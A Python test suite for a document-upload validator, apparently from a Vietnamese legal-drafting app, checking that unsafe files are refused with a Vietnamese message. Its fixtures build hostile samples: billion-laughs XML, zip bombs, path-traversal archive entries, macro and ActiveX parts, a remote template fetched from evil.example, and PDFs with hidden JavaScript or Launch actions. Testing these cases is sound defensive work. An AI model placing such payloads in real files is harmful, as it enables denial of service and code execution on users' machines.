"""Files that must not be opened are told apart before anything opens them, each with a sentence."""

from __future__ import annotations

import io
import time
import zipfile
import zlib

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import Workbook

from danban.common import uploads
from danban.common.uploads import Kind, UploadRefused, check
from tests.policies.files import FIRST, changed_zip, docx
from tests.shared_data import shared

DRAFT = docx(FIRST)


def zipped(parts, **how):
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED, **how) as archive:
        for name, content in parts:
            archive.writestr(name, content)
    return stream.getvalue()


def sheet():
    book = Workbook()
    book.active.append(["điều khoản", "nội dung"])
    stream = io.BytesIO()
    book.save(stream)
    return stream.getvalue()


def pdf(*objects, tail=b"trailer << /Root 1 0 R >>\n%%EOF"):
    return b"%PDF-1.7\n" + b"\n".join(objects) + b"\n" + tail


def flagged_as_encrypted(data):
    """Bit 0 of the flags in every local and central header."""
    changed = bytearray(data)
    for mark, place in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = changed.find(mark)
        while at >= 0:
            changed[at + place] |= 1
            at = changed.find(mark, at + 4)
    return bytes(changed)


def with_lying_size(data, name, size):
    """The directory says a part is small; the stream goes on."""
    changed = bytearray(data)
    at = changed.rfind(b"PK\x01\x02", 0, changed.rfind(name.encode()))
    changed[at + 24 : at + 28] = size.to_bytes(4, "little")
    return bytes(changed)


PAD = b"".join(zlib.compress(bytes([n % 251]) * 40)[:20] for n in range(64))

LAUGHS = b"""<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;">
<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;">]><lolz>&lol3;</lolz>"""

PACKED = zlib.compress(b"1 0 2 30 << /S /JavaScript /JS (app.alert(1)) >>")

REFUSED = {
    "empty": (b"", "trống"),
    "blank": (b" \n\r\n", "trống"),
    "old Word": (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 600, "Lưu thành .docx"),
    "Word with a password": (
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + "EncryptedPackage".encode("utf-16-le"),
        "mật khẩu",
    ),
    "rtf": (b"{\\rtf1 xin chao}", ".rtf"),
    "a photograph": (b"\xff\xd8\xff\xe0" + b"\x10" * 50, "ảnh"),
    "a programme": (b"MZ\x90\x00\x03\x00\x00\x00", "Không nhận ra"),
    "half a zip": (DRAFT[: len(DRAFT) // 2], "hỏng"),
    "a damaged part": (DRAFT.replace(b"word/document.xml", b"word/document.xmm", 1), "hỏng"),
    "another zip": (zipped([("a.txt", "a")]), "không phải tệp Word"),
    "macro": (changed_zip(DRAFT, add={"word/vbaProject.bin": b"x"}), "macro"),
    "ActiveX": (changed_zip(DRAFT, add={"word/activeX/activeX1.xml": b"<a/>"}), "ActiveX"),
    "embedded": (changed_zip(DRAFT, add={"word/embeddings/oleObject1.bin": b"x"}), "nhúng"),
    "billion laughs": (changed_zip(DRAFT, replace={"word/document.xml": LAUGHS}), "khai báo lạ"),
    "laughs in UTF-16": (
        changed_zip(DRAFT, replace={"word/styles.xml": LAUGHS.decode().encode("utf-16")}),
        "khai báo lạ",
    ),
    "template from the web": (
        changed_zip(
            DRAFT,
            add={
                "word/_rels/settings.xml.rels": b'<Relationships><Relationship Id="r1" '
                b'Type="http://x/attachedTemplate" Target="http://evil.example/t.dotm"/></Relationships>'
            },
        ),
        "mẫu trên mạng",
    ),
    "path upward": (changed_zip(DRAFT, add={"word/../../x.xml": b"<a/>"}), "hỏng"),
    "absolute path": (changed_zip(DRAFT, add={"/etc/x.xml": b"<a/>"}), "hỏng"),
    "two parts of one name": (changed_zip(DRAFT, add={"WORD/Document.xml": b"<a/>"}), "hỏng"),
    "zip with a password": (flagged_as_encrypted(DRAFT), "mật khẩu"),
    "bomb": (changed_zip(DRAFT, add={"word/media/a.bin": b"\x00" * 40_000_000}), "phình"),
    "bomb by ratio": (changed_zip(DRAFT, add={"word/media/a.bin": b"\x00" * 9_000_000}), "phình"),
    "bomb of many": (
        changed_zip(DRAFT, add={f"word/media/{n}.bin": PAD * 1_000 + bytes([n]) for n in range(90)}),
        "phình",
    ),
    "lying bomb": (
        with_lying_size(changed_zip(DRAFT, add={"zz.bin": b"\x00" * 3_000_000}), "zz.bin", 10),
        "hỏng",
    ),
    "thousands of parts": (changed_zip(DRAFT, add={f"a/{n}": b"" for n in range(2_100)}), "phình"),
    "PDF with a password": (pdf(tail=b"trailer << /Encrypt 5 0 R >>\n%%EOF"), "khóa"),
    "PDF with script": (pdf(b"1 0 obj << /OpenAction << /S /JavaScript /JS (x) >> >> endobj"), "mã chạy"),
    "PDF with script under other letters": (pdf(b"1 0 obj << /S /J#61vaScript >> endobj"), "mã chạy"),
    "PDF with packed script": (
        pdf(b"9 0 obj << /Type /ObjStm /Filter /FlateDecode >> stream\n" + PACKED + b"\nendstream endobj"),
        "mã chạy",
    ),
    "PDF that starts a programme": (pdf(b"1 0 obj << /S /Launch /F (x) >> endobj"), "mã chạy"),
    "PDF with a file in it": (pdf(b"1 0 obj << /Type /Filespec /EmbeddedFile 3 0 R >> endobj"), "đính kèm"),
    "web page": ("<!DOCTYPE html><p>Điều 1".encode(), "trang web"),
    "words under the name of Word": (FIRST.encode(), "hỏng"),
    "half of UTF-16": (b"\xff\xfeA\x00\x00\xd8", "bảng mã"),
    "a table among drafts": (sheet(), ".docx"),
}


@pytest.mark.parametrize("name", REFUSED)
def test_a_bad_file_is_refused_in_words(name):
    data, words = REFUSED[name]
    with pytest.raises(UploadRefused, match=words) as refused:
        check(data, "du-thao.docx")
    assert refused.value.message.endswith(".")


@pytest.mark.parametrize(
    ("data", "name", "kind"),
    [
        (DRAFT, "du-thao.docx", Kind.DOCX),
        (DRAFT, "ten-sai.pdf", Kind.DOCX),
        (FIRST.encode(), "du-thao.txt", Kind.TEXT),
        (("\ufeff" + FIRST).encode(), "du-thao.txt", Kind.TEXT),
        (FIRST.encode("utf-16"), "du-thao.txt", Kind.TEXT),
        ("QuyÕt ®Þnh vÒ ®Êt ®ai".encode("latin-1"), "cu.txt", Kind.TEXT),
        (pdf(b"1 0 obj << /Type /Catalog >> endobj"), "a.pdf", Kind.PDF),
        (pdf(b"4 0 obj << /Length 20 >> stream\n/JS (x) /Launch 1\nendstream endobj"), "a.pdf", Kind.PDF),
    ],
)
def test_a_good_file_is_known_by_its_bytes(data, name, kind):
    assert check(data, name) is kind


def test_tables_are_taken_where_tables_are_wanted():
    assert check(sheet(), "y-kien.xlsx", kinds=uploads.TABLES) is Kind.XLSX
    with pytest.raises(UploadRefused, match=r"\.csv, \.xlsx"):
        check(DRAFT, "du-thao.docx", kinds=uploads.TABLES)


def test_a_huge_file_is_refused_by_its_size():
    with pytest.raises(UploadRefused, match="25 MB"):
        check(b"a" * (uploads.MAX_FILE + 1), "a.txt")


@pytest.mark.parametrize("name", ["bomb", "bomb of many", "thousands of parts"])
def test_a_bomb_costs_little_time(name):
    started = time.process_time()
    with pytest.raises(UploadRefused):
        check(REFUSED[name][0], "a.docx")
    assert time.process_time() - started < 1.5


@pytest.mark.parametrize("folder", ["docx", "pdf"])
def test_published_documents_are_taken(folder):
    kinds = {check(path.read_bytes(), path.name) for path in shared(f"lawtext/{folder}").iterdir()}
    assert kinds == {Kind(folder)}


def verdict(data):
    try:
        return check(data, "a.txt")
    except UploadRefused:
        return "refused"


FRONTS = [b"", b"PK\x03\x04", b"PK\x05\x06", b"%PDF-1.7\n", b"\xff\xfe"]


@given(st.binary(max_size=400), st.sampled_from(FRONTS))
def test_any_bytes_are_taken_or_refused(data, front):
    assert verdict(front + data) in {*Kind, "refused"}


@given(st.integers(0, len(DRAFT) - 1), st.integers(1, 255))
def test_a_damaged_draft_is_taken_or_refused(place, change):
    damaged = bytearray(DRAFT)
    damaged[place] ^= change
    assert verdict(bytes(damaged)) in {*Kind, "refused"}
